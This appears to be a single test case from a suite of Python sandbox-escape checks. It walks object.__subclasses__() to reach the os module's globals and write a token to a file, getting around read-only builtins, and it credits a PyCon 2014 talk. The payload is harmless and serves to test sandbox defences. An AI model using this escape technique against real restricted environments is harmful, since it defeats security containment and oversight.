# id: intro-subclasses-walk
# category: introspection
# description: walk object.__subclasses__() to a class defined in os and use its __init__.__globals__ (os itself)
# source: PyCon 2014 talk (McKellar), breaking read-only builtins: "wait a second, you thought you were gone, file"
# detect: token (the token lands in OUT)
# talk: L4
for cls in ().__class__.__base__.__subclasses__():
    g = getattr(cls.__init__, '__globals__', None)
    if g is not None and 'O_WRONLY' in g and 'write' in g:
        fd = g['open'](OUT, g['O_WRONLY'] | g['O_CREAT'] | g['O_TRUNC'], 0o644)
        g['write'](fd, TOKEN.encode())
        g['close'](fd)
        break
